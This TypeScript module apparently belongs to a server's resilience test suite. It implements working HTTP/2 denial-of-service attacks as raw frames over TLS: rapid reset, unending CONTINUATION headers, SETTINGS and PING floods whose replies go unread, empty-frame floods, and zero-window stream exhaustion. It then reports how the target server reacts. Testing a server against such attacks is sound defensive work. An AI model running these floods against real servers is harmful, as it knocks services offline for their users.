import type { ServerProcess } from '../support/server-process.ts'
import { type Attack, ended, inBatches, openTls, pour } from './attack.ts'
import { endHeaders, endStream, frame, preface, request, type } from './frames.ts'

interface Session {
  readonly socket: Awaited<ReturnType<typeof openTls>>
  /** error code of the GOAWAY that came, and how many octets */
  told(): { readonly goaway: number | undefined; readonly octets: number }
}

async function open(server: ServerProcess, reads: boolean): Promise<Session> {
  const socket = await openTls(server, { ALPNProtocols: ['h2'] })
  let received = Buffer.alloc(0)
  let octets = 0
  let goaway: number | undefined
  if (reads) {
    socket.on('data', (chunk: Buffer) => {
      octets += chunk.length
      received = Buffer.concat([received, chunk])
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3)
        if (received.length < 9 + length) break
        if (received[3] === 7) goaway = received.readUInt32BE(13)
        received = received.subarray(9 + length)
      }
    })
  } else socket.pause()
  socket.write(Buffer.concat([preface, frame(type.settings, 0, 0)]))
  return { socket, told: () => ({ goaway, octets }) }
}

const names: Readonly<Record<number, string>> = {
  0: 'NO_ERROR',
  1: 'PROTOCOL_ERROR',
  2: 'INTERNAL_ERROR',
  9: 'COMPRESSION_ERROR',
  11: 'ENHANCE_YOUR_CALM',
}

/** Pours frames into one connection after another. */
async function flood(
  server: ServerProcess,
  { connections, reads = true }: { connections: number; reads?: boolean },
  frames: (n: number) => Buffer,
  times: number,
): Promise<{ sent: number; met: string }> {
  let sent = 0
  const met: string[] = []
  for (let i = 0; i < connections; i++) {
    const session = await open(server, reads)
    let n = 0
    for (; n < times && !session.socket.destroyed && session.socket.writable; n++) {
      const octets = frames(n)
      await pour(session.socket, octets, 1)
      if (!reads && session.socket.writableLength > 4_000_000) break
      if (n % 8 === 0) await new Promise(setImmediate)
    }
    sent += n
    const closed = await ended(session.socket, reads ? 1_000 : 300)
    const { goaway } = session.told()
    const how = goaway === undefined ? '' : ` (${names[goaway] ?? `error ${goaway}`})`
    const whole = n === times ? 'all taken' : 'read no further'
    met.push(closed ? `connection ended${how}` : whole)
    session.socket.destroy()
  }
  return { sent, met: [...new Set(met)].join('; ') }
}

const headers = request('/whoami')
const stream = (n: number) => 2 * n + 1

export const http2Attacks: readonly Attack[] = [
  {
    name: 'HTTP/2: streams opened and reset (rapid reset)',
    async run(server, scale) {
      const cancel = Buffer.from([0, 0, 0, 8])
      const burst = (n: number) =>
        Buffer.concat(
          Array.from({ length: 50 }, (_, i) => {
            const id = stream(n * 50 + i)
            return Buffer.concat([
              frame(type.headers, endHeaders | endStream, id, headers),
              frame(type.rstStream, 0, id, cancel),
            ])
          }),
        )
      const { sent, met } = await flood(server, { connections: 3 }, burst, 200 * scale)
      return { sent: `${sent * 50} streams on 3 connections`, met }
    },
  },
  {
    name: 'HTTP/2: a header section in CONTINUATION frames without end',
    async run(server, scale) {
      const more = Buffer.from('\0\x01x\x01y'.repeat(2000), 'latin1')
      const next = (n: number) =>
        n === 0 ? frame(type.headers, endStream, 1, headers) : frame(type.continuation, 0, 1, more)
      const { sent, met } = await flood(server, { connections: 3 }, next, 2_000 * scale)
      return { sent: `${sent} frames of ${more.length / 1000} KB on 3 connections`, met }
    },
  },
  {
    name: 'HTTP/2: empty CONTINUATION frames without end',
    async run(server, scale) {
      const empty = Buffer.concat(new Array<Buffer>(500).fill(frame(type.continuation, 0, 1)))
      const next = (n: number) => (n === 0 ? frame(type.headers, endStream, 1, headers) : empty)
      const { sent, met } = await flood(server, { connections: 2 }, next, 100 * scale)
      return { sent: `${sent * 500} frames on 2 connections`, met }
    },
  },
  {
    name: 'HTTP/2: SETTINGS without end, acknowledgements not read',
    async run(server, scale) {
      const change = Buffer.from([0, 4, 0, 0, 0x40, 0])
      const burst = Buffer.concat(new Array<Buffer>(1000).fill(frame(type.settings, 0, 0, change)))
      const { sent, met } = await flood(server, { connections: 2, reads: false }, () => burst, 200 * scale)
      return { sent: `${sent * 1000} frames on 2 connections`, met }
    },
  },
  {
    name: 'HTTP/2: PING without end, answers not read',
    async run(server, scale) {
      const burst = Buffer.concat(new Array<Buffer>(1000).fill(frame(type.ping, 0, 0, Buffer.alloc(8))))
      const { sent, met } = await flood(server, { connections: 2, reads: false }, () => burst, 200 * scale)
      return { sent: `${sent * 1000} frames on 2 connections`, met }
    },
  },
  {
    name: 'HTTP/2: empty DATA, PRIORITY and WINDOW_UPDATE frames without end',
    async run(server, scale) {
      const start = frame(type.headers, endHeaders, 1, request('/whoami', [], 'POST'))
      const kinds = [
        frame(type.data, 0, 1),
        frame(type.priority, 0, 3, Buffer.from([0, 0, 0, 0, 1])),
        frame(type.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])),
      ]
      let sent = 0
      const met: string[] = []
      for (const kind of kinds) {
        const burst = Buffer.concat(new Array<Buffer>(1000).fill(kind))
        const result = await flood(server, { connections: 1 }, n => (n === 0 ? start : burst), 50 * scale)
        sent += result.sent
        met.push(result.met)
      }
      return { sent: `${sent * 1000} frames on 3 connections`, met: met.join('; ') }
    },
  },
  {
    name: 'HTTP/2: all streams open, no window for the answers',
    async run(server, scale) {
      const closed: boolean[] = []
      await inBatches(5 * scale, 10, async () => {
        const { socket } = await open(server, true)
        // SETTINGS_INITIAL_WINDOW_SIZE 0
        socket.write(frame(type.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])))
        for (let n = 0; n < 128; n++) socket.write(frame(type.headers, endHeaders | endStream, stream(n), headers))
        closed.push(await ended(socket, 20_000))
        socket.destroy()
      })
      const count = closed.filter(Boolean).length
      return { sent: `${closed.length} connections with 128 requests`, met: `${count} ended by the server` }
    },
  },
]
